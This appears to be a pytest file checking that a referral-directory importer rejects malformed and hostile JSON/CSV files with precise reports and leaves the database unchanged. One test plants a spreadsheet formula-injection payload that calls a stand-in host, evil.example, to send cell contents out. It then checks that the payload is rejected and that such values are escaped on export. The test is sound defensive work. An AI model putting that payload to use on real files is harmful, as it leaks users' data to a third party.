"""Malformed and hostile files: a precise report (file, row, field) and no change at all."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine

from referrals import store, transfer
from referrals.report import Report
from tests.referrals.builders import location, organization, service, tid, write
from tests.referrals.conftest import BACKENDS


def snapshot(engine: Engine) -> dict[str, Any]:
    from sqlalchemy import text

    rows = store.load(engine)
    with engine.connect() as conn:
        rows["_index"] = conn.execute(text("SELECT count(*) FROM referral_index")).all()  # type: ignore[assignment]
    return rows


def assert_rejected(engine: Engine, path: Path) -> Report:
    before = snapshot(engine)
    report = transfer.import_path(engine, path)
    assert not report.applied
    assert report.errors
    assert snapshot(engine) == before
    return report


def one(report: Report, **where: object) -> None:
    matches = [p for p in report.errors if all(getattr(p, k) == v for k, v in where.items())]
    assert matches, f"no error with {where}: {report.lines()}"


def good_org(key: str = "ok") -> dict[str, Any]:
    return organization(
        key,
        locations=[location(f"{key}-l", key, state="MX-QUE", municipality="Querétaro")],
        services=[service(f"{key}-s", key, at=[f"{key}-l"])],
    )


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_wrong_types_are_reported_with_row_and_field(seeded: Engine, tmp_path: Path) -> None:
    org = good_org()
    org["services"][0]["status"] = "open"
    org["locations"][0]["latitude"] = "twenty"
    org["locations"][0]["longitude"] = -100.0
    org["locations"][0]["confidential"] = "no"
    report = assert_rejected(seeded, write(tmp_path / "types.json", [good_org("first"), org]))
    one(report, file="types.json", row=2, field="services/0/status")
    one(report, file="types.json", row=2, field="locations/0/latitude")


def test_profile_values_are_checked(seeded: Engine, tmp_path: Path) -> None:
    org = good_org()
    org["locations"][0]["state"] = "MX-XXX"
    org["services"][0]["populations"] = ["aliens"]
    org["services"][0]["scope"] = "planet"
    report = assert_rejected(seeded, write(tmp_path / "profile.json", [org]))
    one(report, row=1, field="locations/0/state")
    one(report, row=1, field="services/0/populations")
    one(report, row=1, field="services/0/scope")


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_missing_and_duplicate_ids(seeded: Engine, tmp_path: Path) -> None:
    missing = good_org("a")
    del missing["services"][0]["id"]
    report = assert_rejected(seeded, write(tmp_path / "missing.json", [missing]))
    one(report, row=1, field="services/0")
    duplicate = good_org("b")
    twin = good_org("c")
    twin["services"][0]["id"] = duplicate["services"][0]["id"]
    report = assert_rejected(seeded, write(tmp_path / "dup.json", [duplicate, twin]))
    one(report, row=2, field="services/0/id")
    assert any("first at dup.json row 1" in str(p) for p in report.errors)


def test_dangling_reference(seeded: Engine, tmp_path: Path) -> None:
    org = good_org()
    org["services"][0]["service_at_locations"][0]["location_id"] = tid("loc", "nowhere")
    report = assert_rejected(seeded, write(tmp_path / "ref.json", [org]))
    one(report, row=1, field="services/0/service_at_locations/0/location_id")


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_ten_megabytes_of_garbage(seeded: Engine, tmp_path: Path) -> None:
    garbage = tmp_path / "garbage.json"
    garbage.write_bytes(os.urandom(10 * 1024 * 1024))
    report = assert_rejected(seeded, garbage)
    one(report, file="garbage.json", row=0)
    package = tmp_path / "garbage-csv"
    package.mkdir()
    (package / "organizations.csv").write_bytes(os.urandom(10 * 1024 * 1024))
    report = assert_rejected(seeded, package)
    one(report, file="organizations.csv")
    text_garbage = tmp_path / "text.json"
    text_garbage.write_text("[" + "1," * (5 * 1024 * 1024) + "1]", encoding="utf-8")
    report = assert_rejected(seeded, text_garbage)
    one(report, file="text.json", row=1)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    assert_rejected(seeded, deep)


@pytest.mark.parametrize("database_url", BACKENDS, indirect=True)
def test_formula_injection_in_csv_is_rejected_on_import_and_neutralised_on_export(
    seeded: Engine, tmp_path: Path
) -> None:
    package = tmp_path / "package"
    transfer.export_csv(seeded, package)
    services = package / "services.csv"
    lines = services.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = next(__import__("csv").reader([lines[1]]))
    cells[header.index("name")] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    import csv
    import io

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
    lines[1] = buffer.getvalue().rstrip("\r\n")
    services.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    report = assert_rejected(seeded, package)
    one(report, file="services.csv", row=2, field="name")

    # A value that starts like a formula, stored through JSON, is written escaped to CSV.
    org = good_org("formula")
    org["services"][0]["name"] = "=1+2"
    org["services"][0]["phones"] = [{"id": tid("p", 1), "number": "+52 442 000 0000"}]
    assert transfer.import_path(seeded, write(tmp_path / "f.json", [org])).applied
    out = tmp_path / "out"
    transfer.export_csv(seeded, out)
    text = (out / "services.csv").read_text(encoding="utf-8")
    assert ",'=1+2," in text and ",=1+2," not in text
    assert "'+52 442 000 0000" in (out / "phones.csv").read_text(encoding="utf-8")


def test_wrong_cell_count_and_bad_numbers_in_csv(seeded: Engine, tmp_path: Path) -> None:
    package = tmp_path / "package"
    transfer.export_csv(seeded, package)
    path = package / "locations.csv"
    text = path.read_text(encoding="utf-8").splitlines()
    text.append("only,three,cells")
    path.write_text("\r\n".join(text) + "\r\n", encoding="utf-8")
    report = assert_rejected(seeded, package)
    one(report, file="locations.csv", row=len(text), field="")


def test_a_failure_inside_the_transaction_rolls_everything_back(seeded: Engine, tmp_path: Path) -> None:
    """The file is valid on its own but the database refuses it at commit: nothing changes."""
    from sqlalchemy import text

    # A service of another organization uses this location; the new file drops the location.
    keep = organization(
        "keeper",
        locations=[location("shared", "keeper", state="MX-QUE", municipality="Querétaro")],
        services=[service("user", "keeper", at=["shared"])],
    )
    assert transfer.import_path(seeded, write(tmp_path / "k.json", [keep])).applied
    other = organization("other", locations=[], services=[service("o", "other", at=[])])
    other["services"][0]["service_at_locations"] = [
        {"id": tid("sal", "cross"), "service_id": tid("svc", "o"), "location_id": tid("loc", "shared")}
    ]
    assert transfer.import_path(seeded, write(tmp_path / "o.json", [other])).applied
    keep["locations"] = []
    keep["services"][0].pop("service_at_locations")
    before = snapshot(seeded)
    report = transfer.import_path(seeded, write(tmp_path / "k2.json", [keep]))
    assert not report.applied and report.errors
    assert snapshot(seeded) == before
    with seeded.connect() as conn:
        assert (
            conn.execute(
                text("SELECT count(*) FROM location WHERE id = :i"), {"i": tid("loc", "shared")}
            ).scalar()
            == 1
        )


def test_unknown_properties_are_warnings_not_silence(seeded: Engine, tmp_path: Path) -> None:
    org = good_org()
    org["services"][0]["favourite_colour"] = "blue"
    report = transfer.import_path(seeded, write(tmp_path / "w.json", [org]))
    assert report.applied
    assert any(p.level == "warning" and p.field == "services/0/favourite_colour" for p in report.problems)


def test_not_a_package(tmp_path: Path, seeded: Engine) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    report = assert_rejected(seeded, empty)
    assert "no HSDS CSV file" in report.errors[0].message
    bad_zip = tmp_path / "x.zip"
    bad_zip.write_bytes(b"PK not really")
    assert_rejected(seeded, bad_zip)
    shutil.rmtree(empty)
    assert json.dumps(report.lines())
